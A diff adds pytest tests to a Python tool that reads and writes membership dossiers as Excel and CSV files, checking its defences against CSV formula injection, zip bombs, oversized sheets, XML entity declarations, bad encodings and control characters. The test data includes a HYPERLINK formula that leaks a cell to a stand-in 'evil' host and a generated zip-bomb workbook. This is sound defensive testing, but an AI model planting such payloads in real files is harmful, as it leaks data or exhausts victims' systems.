@@ -3,9 +3,17 @@
 from __future__ import annotations
 
 import csv
-from collections.abc import Sequence
+import io
+import os
+import re
+import threading
+import unicodedata
+import warnings
+import zipfile
+from collections.abc import Callable, Sequence
 from pathlib import Path
 
+import attrs
 import openpyxl
 import pendulum
 import pytest
@@ -376,3 +384,523 @@ def test_the_command_line_stores_the_setup_from_a_workbook(tmp_path: Path) -> No
     refused = runner.invoke(cli, ["setup", "--store", str(store), "--sheet", str(bad)])
     assert refused.exit_code == 1
     assert "to-chuc, dòng 2, cột «Cấp»" in refused.output
+
+
+# --- what a spreadsheet would run: neutralised on the way out (issue 24, item 2) ---------------
+
+FORMULA = '=HYPERLINK("http://evil/?"&B2,"x")'
+# A spreadsheet runs a cell starting with any of these (OWASP, "CSV Injection").
+LIVE = ("=", "+", "-", "@", "\t", "\r")
+
+
+def live_cells(path: Path) -> list[str]:
+    """Every cell or field of a .csv or .xlsx file a spreadsheet would run as a formula."""
+    if path.suffix == ".csv":
+        with path.open(encoding="utf-8-sig", newline="") as file:
+            return [field for row in csv.reader(file) for field in row if field.startswith(LIVE)]
+    workbook = openpyxl.load_workbook(path)  # not read-only: data_type is the cell's own
+    found = [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+        or (isinstance(cell.value, str) and (cell.data_type != "s" or cell.value.startswith(LIVE)))
+    ]
+    workbook.close()
+    return found
+
+
+def named(dossier: Dossier, name: str) -> Dossier:
+    dossier.candidate = attrs.evolve(dossier.candidate, name=name)
+    return dossier
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_a_name_that_is_a_formula_is_written_as_text_and_reads_back_unchanged(
+    tmp_path: Path, suffix: str
+) -> None:
+    path = tmp_path / f"ds{suffix}"
+    names = [FORMULA, "+84 912 345 678", "-1", "@SUM(A1)", "'=already quoted", "'ordinary"]
+    written = [named(d, name) for d, name in zip(candidates(len(names)), names, strict=True)]
+    write_dossiers(path, written)
+    assert live_cells(path) == []
+    read = read_dossiers(path, workflow=Workflow())
+    assert [d.candidate.name for d in read] == names
+
+
+@pytest.mark.parametrize("target", ["thiet-lap.xlsx", "csv"])
+def test_the_setup_sheets_never_hold_a_live_formula(tmp_path: Path, target: str) -> None:
+    tree = OrganizationTree(
+        [
+            Unit(code="=1+1", name=FORMULA, level="district"),
+            Unit(code="@X", name="-Chi bộ", level="base_branch", parent="=1+1", members=-0),
+        ]
+    )
+    quotas = Quotas({("@X", 2021): 3})
+    courses = [Course(code="+K", unit="=1+1", opened_on=MEETING, closed_on=MEETING,
+                      trainees=5)]  # fmt: skip
+    written = write_setup(tmp_path / target, tree=tree, quotas=quotas, courses=courses)
+    assert [cell for path in written for cell in live_cells(path)] == []
+    again = read_setup(*written)
+    assert again.tree is not None
+    assert again.tree.to_data() == tree.to_data()
+    assert again.quotas is not None
+    assert again.quotas.items() == quotas.items()
+    assert again.courses == courses
+
+
+def test_the_template_holds_no_formula(tmp_path: Path) -> None:
+    write_template(tmp_path / "mau.xlsx")
+    assert live_cells(tmp_path / "mau.xlsx") == []
+
+
+def test_reports_and_statistics_never_write_a_live_formula(tmp_path: Path) -> None:
+    from ketnap import SQLiteStore  # noqa: PLC0415
+    from ketnap.derived import facts_for  # noqa: PLC0415
+    from ketnap.reports import report  # noqa: PLC0415
+    from ketnap.statistics import new_members  # noqa: PLC0415
+    from ketnap.testing import walk  # noqa: PLC0415
+
+    tree = OrganizationTree(
+        [
+            Unit(code="=H", name=FORMULA, level="district"),
+            Unit(code="-C", name="@Chi bộ", level="base_branch", parent="=H", members=3),
+        ]
+    )
+    workflow = Workflow()
+    dossier = make_dossier(meeting=MEETING, organization=tree.organization("-C"))
+    walk(workflow, dossier, meeting=MEETING, until=Stage.PROBATION)
+    with SQLiteStore(tmp_path / "s.db", facts=facts_for(workflow.law)) as store:
+        store.save(dossier)
+        found = report(store, tree, Quotas(), unit="=H", year=2024, on=MEETING.add(months=6))
+        form = new_members(store, tree, unit="=H", on=MEETING.add(months=6))
+    for name, text in {"report.csv": found.to_csv(), "bieu-3.csv": form.to_csv()}.items():
+        (tmp_path / name).write_text(text, encoding="utf-8")
+        assert live_cells(tmp_path / name) == [], name
+    assert live_cells(form.write_xlsx(tmp_path / "bieu-3.xlsx")) == []
+    # Counts stay numbers: a field the report writes for a count is never quoted.
+    assert "members,3\n" in found.to_csv()
+
+
+@pytest.mark.parametrize(
+    "value", ["=1+1", "+1", "-1", "@A", "\t=1", "\r=1", "'=1", "''+1", "'", "'a", "a=1", ""]
+)
+def test_an_escaped_text_unescapes_to_itself(value: str) -> None:
+    from ketnap.inputs import escape_formula, unescape_formula  # noqa: PLC0415
+
+    escaped = escape_formula(value)
+    assert isinstance(escaped, str)
+    assert not escaped.startswith(LIVE)
+    assert unescape_formula(escaped) == value
+
+
+# --- what a sheet may hold: bounded before it is read (issue 24, items 4, 5, 7) --------------
+
+
+def rewritten(
+    source: Path,
+    target: Path,
+    part: str,
+    edit: Callable[[bytes], bytes],
+    compression: int = zipfile.ZIP_DEFLATED,
+) -> Path:
+    """*source* with one part's XML replaced by *edit* of it."""
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", compression) as new:
+        for info in old.infolist():
+            data = old.read(info)
+            new.writestr(info.filename, edit(data) if info.filename == part else data)
+    return target
+
+
+SHEET_XML = "xl/worksheets/sheet1.xml"
+
+
+def one_row_workbook(tmp_path: Path) -> Path:
+    path = tmp_path / "one.xlsx"
+    write_dossiers(path, candidates(1))
+    return path
+
+
+def test_a_zip_bomb_is_refused_from_the_directory_before_anything_is_decompressed(
+    tmp_path: Path,
+) -> None:
+    import tracemalloc  # noqa: PLC0415
+
+    from ketnap.inputs import LIMITS  # noqa: PLC0415
+
+    # A sheet part of more than LIMITS.sheet_bytes of repeated XML, compressed to a few
+    # hundred KB; written in chunks, so the test holds little of it at once.
+    path = tmp_path / "bomb.xlsx"
+    source = one_row_workbook(tmp_path)
+    chunk = b"<row><c/></row>" * 4096
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
+        for info in old.infolist():
+            if info.filename != SHEET_XML:
+                new.writestr(info.filename, old.read(info))
+        with new.open(SHEET_XML, "w", force_zip64=True) as part:
+            for _ in range(LIMITS.sheet_bytes // len(chunk) + 1):
+                part.write(chunk)
+    assert path.stat().st_size < 2_000_000
+    tracemalloc.start()
+    with pytest.raises(InvalidInput, match="too large to read") as refused:
+        read_dossiers(path, workflow=Workflow())
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert peak < 5_000_000
+    assert refused.value.field == "file"
+
+
+@pytest.mark.parametrize(
+    ("xml", "message"),
+    [
+        # One row of 11 MB of empty cells took 600 MB in openpyxl.
+        (b'<row r="2">' + b"<c/>" * 300 + b"</row>", "more than 256 columns"),
+        (b'<row r="2"><c r="XFD2"><v>1</v></c></row>', "more than 256 columns"),
+        (b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>', "more than 100,000 rows"),
+        (b"<row/>" * 100_002, "more than 100,000 rows"),
+        (b'<row r="3"><c r="A3"><is>' + b"<r><t>a</t></r>" * 3000 + b"</is></c></row>",
+         "XML elements"),
+    ],
+    ids=["cells", "a far column", "a far row", "rows", "a row's elements"],
+)  # fmt: skip
+def test_a_sheet_over_the_limits_is_refused_before_openpyxl_reads_it(
+    tmp_path: Path, xml: bytes, message: str
+) -> None:
+    source = one_row_workbook(tmp_path)
+    path = rewritten(
+        source,
+        tmp_path / "big.xlsx",
+        SHEET_XML,
+        lambda data: data.replace(b"</sheetData>", xml + b"</sheetData>"),
+    )
+    with pytest.raises(InvalidInput, match=message):
+        read_dossiers(path, workflow=Workflow())
+
+
+def test_parts_held_whole_are_bounded(tmp_path: Path) -> None:
+    # 62 MB of styles took 1.7 GB in openpyxl: what it holds whole is counted. Stored,
+    # not compressed: the compression check would refuse it first.
+    source = one_row_workbook(tmp_path)
+    styles = b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>' * 100_001
+    path = rewritten(
+        source, tmp_path / "styles.xlsx", "xl/styles.xml",
+        lambda data: data.replace(b"</cellXfs>", styles + b"</cellXfs>"), zipfile.ZIP_STORED,
+    )  # fmt: skip
+    with pytest.raises(InvalidInput, match="XML elements besides its cells"):
+        read_dossiers(path, workflow=Workflow())
+
+
+def test_a_workbook_declaring_a_document_type_is_refused(tmp_path: Path) -> None:
+    source = one_row_workbook(tmp_path)
+    laughs = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">]>'
+    path = rewritten(source, tmp_path / "dtd.xlsx", SHEET_XML, lambda data: laughs + data)
+    with pytest.raises(InvalidInput, match="document type"):
+        read_dossiers(path, workflow=Workflow())
+
+
+def test_a_dimension_claiming_a_million_rows_reads_only_the_rows_there(tmp_path: Path) -> None:
+    source = one_row_workbook(tmp_path)
+    path = rewritten(
+        source, tmp_path / "claims.xlsx", SHEET_XML,
+        lambda data: re.sub(rb"<dimension [^>]*/>", b'<dimension ref="A1:XFD1048576"/>', data),
+    )  # fmt: skip
+    assert len(read_dossiers(path, workflow=Workflow())) == 1
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"", b"PK\x03\x04 truncated", b"not a zip at all", bytes(range(256)) * 8],
+    ids=["empty", "truncated", "text", "binary"],
+)
+def test_a_file_that_is_no_workbook_is_one_error(tmp_path: Path, content: bytes) -> None:
+    path = tmp_path / "x.xlsx"
+    path.write_bytes(content)
+    with pytest.raises(InvalidInput, match=r"not a readable \.xlsx workbook"):
+        read_dossiers(path, workflow=Workflow())
+
+
+@pytest.mark.parametrize(
+    ("cell", "reason"),
+    [
+        (b'<c r="C2"><v>NaN</v></c>', "cannot be read"),
+        (b'<c r="C2" t="d"><v>not-a-date</v></c>', "cannot be read"),
+        (b'<c r="C2"><v>' + b"9" * 5000 + b"</v></c>", "cannot be read"),
+        (b'<c r="C2"><v>1e400</v></c>', "not a date"),
+    ],
+    ids=["NaN", "a malformed date", "5,000 digits", "infinite"],
+)
+def test_a_cell_openpyxl_cannot_parse_names_its_row(
+    tmp_path: Path, cell: bytes, reason: str
+) -> None:
+    source = one_row_workbook(tmp_path)
+    path = rewritten(
+        source, tmp_path / "cell.xlsx", SHEET_XML,
+        lambda data: re.sub(rb'<c r="C2".*?</c>', cell, data, count=1),
+    )  # fmt: skip
+    with pytest.raises(SheetRefused) as refused:
+        read_dossiers(path, workflow=Workflow())
+    (problem,) = refused.value.problems
+    assert (problem.sheet, problem.row) == ("Danh sách", 2)
+    assert reason in problem.text("en")
+
+
+def test_what_openpyxl_warns_about_is_read_without_a_warning(tmp_path: Path) -> None:
+    # openpyxl warns that it drops a sheet's data validation; under filterwarnings = error
+    # the warning was an exception, and on a terminal a line a clerk cannot act on.
+    extension = (
+        b'<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
+        b'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
+        b"<x14:dataValidations/></ext></extLst></worksheet>"
+    )
+    path = rewritten(
+        one_row_workbook(tmp_path), tmp_path / "validated.xlsx", SHEET_XML,
+        lambda data: data.replace(b"</worksheet>", extension),
+    )  # fmt: skip
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        assert len(read_dossiers(path, workflow=Workflow())) == 1
+
+
+def write_text(path: Path, rows: Sequence[Sequence[object]], encoding: str) -> Path:
+    out = io.StringIO()
+    csv.writer(out).writerows(rows)
+    text = out.getvalue()
+    path.write_bytes(cp1258(text) if encoding == "cp1258" else text.encode(encoding))
+    return path
+
+
+def cp1258(text: str) -> bytes:
+    """*text* as Excel writes it on Vietnamese Windows: tone marks often combining."""
+    out = bytearray()
+    for char in text:
+        parts = unicodedata.normalize("NFD", char)
+        tries = [char, parts] + [
+            unicodedata.normalize("NFC", parts[0] + parts[i]) + parts[1:i] + parts[i + 1 :]
+            for i in range(1, len(parts))
+        ]
+        out += next(t.encode("cp1258") for t in tries if _encodes(t))
+    return bytes(out)
+
+
+def _encodes(text: str) -> bool:
+    try:
+        text.encode("cp1258")
+    except UnicodeEncodeError:
+        return False
+    return True
+
+
+def sheet_rows(n: int = 2) -> list[list[object]]:
+    rows: list[list[object]] = [[c.vi for c in COLUMNS]]
+    rows += [sheets._cells(d, COLUMNS) for d in candidates(n)]
+    return rows
+
+
+@pytest.mark.parametrize(
+    ("encoding", "given", "used"),
+    [
+        ("utf-8-sig", None, "UTF-8"),
+        ("utf-16", None, "UTF-16"),  # with its byte-order mark, as Excel's "Unicode" files
+        ("utf-16", "cp1258", "UTF-16"),  # the mark wins over a guess
+        ("cp1258", "cp1258", "Windows-1258"),
+        ("cp1258", "windows-1258", "Windows-1258"),
+    ],
+)
+def test_a_csv_in_the_encodings_offices_use_reads_the_same_dossiers(
+    tmp_path: Path, encoding: str, given: str | None, used: str
+) -> None:
+    expected = [to_document(d) for d in read_dossiers(
+        write_text(tmp_path / "a.csv", sheet_rows(), "utf-8"), workflow=Workflow())]  # fmt: skip
+    path = write_text(tmp_path / "b.csv", sheet_rows(), encoding)
+    assert sheets.csv_encoding(path, given) == used
+    read = read_dossiers(path, workflow=Workflow(), encoding=given)
+    assert [to_document(d) for d in read] == expected
+
+
+@pytest.mark.parametrize(
+    ("content", "row", "reason"),
+    [
+        (cp1258, 1, "not UTF-8 text"),
+        (lambda text: text.replace("ễ", "e").encode("latin-1", "replace") + b"\xe9", 1,
+         "not UTF-8 text"),
+        (lambda text: text.encode("utf-16-le"), 1, "UTF-16 without"),  # no byte-order mark
+        (lambda text: text.encode() + bytes(range(128, 256)), 4, "not UTF-8 text"),
+        (lambda text: text.encode().replace(b"HS-001", b"HS\x00001"), 3, "NUL"),
+    ],
+    ids=["Windows-1258", "Latin-1", "UTF-16 unmarked", "binary after the rows", "NUL"],
+)  # fmt: skip
+def test_a_csv_that_is_not_text_in_its_encoding_names_the_row(
+    tmp_path: Path, content: Callable[[str], bytes], row: int, reason: str
+) -> None:
+    out = io.StringIO()
+    csv.writer(out).writerows(sheet_rows())
+    path = tmp_path / "ds.csv"
+    path.write_bytes(content(out.getvalue()))
+    with pytest.raises(SheetRefused) as refused:
+        read_dossiers(path, workflow=Workflow())
+    (problem,) = refused.value.problems
+    assert (problem.row, problem.column) == (row, "")
+    assert reason in problem.text("en")
+
+
+@pytest.mark.parametrize("encoding", ["latin-1", "no-such-codec", "rot13"])
+def test_an_unknown_encoding_is_refused(tmp_path: Path, encoding: str) -> None:
+    path = write_text(tmp_path / "ds.csv", sheet_rows(), "utf-8")
+    with pytest.raises(InvalidInput, match="encoding"):
+        read_dossiers(path, workflow=Workflow(), encoding=encoding)
+
+
+@pytest.mark.parametrize(
+    ("edit", "reason"),
+    [
+        (lambda rows: rows[1].__setitem__(1, "A" * 200_000), "longer than 131,072"),
+        (lambda rows: rows[1].extend([""] * 300), "more than 256 columns"),
+        (lambda rows: rows[1].__setitem__(1, "A" * 5000), "longer than 1,000"),
+    ],
+    ids=["a cell over the csv module's bound", "too many columns", "a long name"],
+)
+def test_a_csv_row_over_the_limits_is_named(
+    tmp_path: Path, edit: Callable[[list[list[object]]], None], reason: str
+) -> None:
+    rows = sheet_rows()
+    edit(rows)
+    path = write_text(tmp_path / "ds.csv", rows, "utf-8")
+    with pytest.raises(SheetRefused) as refused:
+        read_dossiers(path, workflow=Workflow())
+    (problem,) = refused.value.problems
+    assert problem.row == 2
+    assert reason in problem.text("en")
+
+
+def test_a_csv_of_more_rows_than_the_limit_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from ketnap import _sheet_files  # noqa: PLC0415
+    from ketnap.inputs import LIMITS  # noqa: PLC0415
+
+    monkeypatch.setattr(_sheet_files, "LIMITS", attrs.evolve(LIMITS, sheet_rows=2))
+    path = write_text(tmp_path / "ds.csv", sheet_rows(3), "utf-8")
+    with pytest.raises(SheetRefused, match="more than 2 rows"):
+        read_dossiers(path, workflow=Workflow())
+
+
+@pytest.mark.parametrize(
+    "date",
+    [
+        "٢٠/٠٥/١٩٩٨",
+        "２０/０５/１９９８",
+        "99999999999999999999/01/1999",
+        "20/5/01998",
+        "020/05/1998",
+    ],
+)
+def test_a_date_takes_ascii_digits_only(tmp_path: Path, date: str) -> None:
+    rows = sheet_rows(1)
+    rows[1][2] = date
+    with pytest.raises(SheetRefused) as refused:
+        read_dossiers(write_text(tmp_path / "ds.csv", rows, "utf-8"), workflow=Workflow())
+    (problem,) = refused.value.problems
+    assert (problem.column, problem.field) == ("Ngày sinh", "birth_date")
+    assert "not a date as dd/mm/yyyy" in problem.text("en")
+
+
+@pytest.mark.parametrize("second", ["Họ và tên", "Full name", "HỌ VÀ TÊN"])
+def test_a_column_given_twice_is_refused_naming_its_header(tmp_path: Path, second: str) -> None:
+    rows = sheet_rows(1)
+    rows[0].append(second)
+    rows[1].append("Người khác")
+    path = write_text(tmp_path / "ds.csv", rows, "utf-8")
+    with pytest.raises(InvalidInput, match=r"«Họ và tên» .* given twice"):
+        read_dossiers(path, workflow=Workflow())
+
+
+def test_a_record_that_refuses_a_value_names_the_clerks_header(tmp_path: Path) -> None:
+    rows = sheet_rows(1)
+    rows[1][2] = "01/01/2030"  # born after entering the source pool: the record refuses it
+    with pytest.raises(SheetRefused) as refused:
+        read_dossiers(write_text(tmp_path / "ds.csv", rows, "utf-8"), workflow=Workflow())
+    (problem,) = refused.value.problems
+    assert (problem.row, problem.column, problem.field) == (2, "Ngày sinh", "birth_date")
+    assert "candidate." not in problem.text("en")
+
+
+def test_a_branch_name_a_record_refuses_names_the_branch_column(tmp_path: Path) -> None:
+    rows = sheet_rows(1)
+    rows[1][6] = "Chi bộ\u202e"  # a bidirectional override in the branch's name
+    with pytest.raises(SheetRefused) as refused:
+        read_dossiers(write_text(tmp_path / "ds.csv", rows, "utf-8"), workflow=Workflow())
+    (problem,) = refused.value.problems
+    assert (problem.column, problem.field) == ("Tên chi bộ", "branch")
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_a_named_pipe_is_refused_without_waiting(tmp_path: Path, suffix: str) -> None:
+    pipe = tmp_path / f"pipe{suffix}"
+    os.mkfifo(pipe)
+    # Run in a thread with a deadline, so that a regression fails instead of hanging.
+    outcome: list[BaseException] = []
+    worker = threading.Thread(
+        target=lambda: _capture(outcome, lambda: read_dossiers(pipe, workflow=Workflow())),
+        daemon=True,
+    )
+    worker.start()
+    worker.join(20)
+    if worker.is_alive():
+        with pipe.open("wb"):  # let the blocked reader go
+            pass
+        pytest.fail("reading a named pipe blocked")
+    assert isinstance(outcome[0], InvalidInput)
+    assert "not a regular file" in str(outcome[0])
+
+
+def _capture(outcome: list[BaseException], call: Callable[[], object]) -> None:
+    try:
+        call()
+    except BaseException as exc:  # noqa: BLE001 - handed to the test
+        outcome.append(exc)
+
+
+# --- the tree, quotas and courses from sheets: cleaned as a dossier's texts (item 6) -----------
+
+
+@pytest.mark.parametrize(
+    ("name", "reason"),
+    [
+        ("Huyện\x1b[2J", "U+001B"),
+        ("Huyện\u202e", "U+202E"),
+        ("Huyện\u0085", "U+0085"),
+        ("H" * 100_000, "longer than 1,000"),
+    ],
+    ids=["escape", "bidi", "C1 control", "100 KB"],
+)
+def test_a_unit_name_is_cleaned_as_a_dossiers_text(tmp_path: Path, name: str, reason: str) -> None:
+    path = write_csv(
+        tmp_path / "to-chuc.csv",
+        [UNIT_HEADER, ["H", name, "district", "", "", ""], ["C", "C", "base_branch", "H", 1, ""]],
+    )
+    with pytest.raises(SheetRefused) as refused:
+        read_setup(path)
+    (problem,) = refused.value.problems
+    assert (problem.row, problem.column, problem.field) == (2, "Tên đơn vị", "name")
+    assert reason in problem.text("en")
+    assert name not in str(refused.value)
+
+
+def test_a_level_given_as_a_number_in_a_sheet_is_refused_not_crashed(tmp_path: Path) -> None:
+    path = write_csv(tmp_path / "to-chuc.csv", [UNIT_HEADER, ["H", "Huyện", "1" * 400, "", "", ""]])
+    with pytest.raises(SheetRefused) as refused:
+        read_setup(path)
+    assert [(p.row, p.column) for p in refused.value.problems] == [(2, "Cấp")]
+
+
+@pytest.mark.parametrize("column", ["year", "admissions"])
+def test_quota_numbers_of_400_digits_are_refused(tmp_path: Path, column: str) -> None:
+    row: dict[str, object] = {"unit": "CB1", "year": 2021, "admissions": 2}
+    row[column] = "1" + "0" * 400
+    path = write_csv(tmp_path / "chi-tieu.csv", [[c.vi for c in QUOTA_COLUMNS], list(row.values())])
+    with pytest.raises(SheetRefused) as refused:
+        read_setup(path)
+    (problem,) = refused.value.problems
+    assert problem.column == next(c.vi for c in QUOTA_COLUMNS if c.field == column)
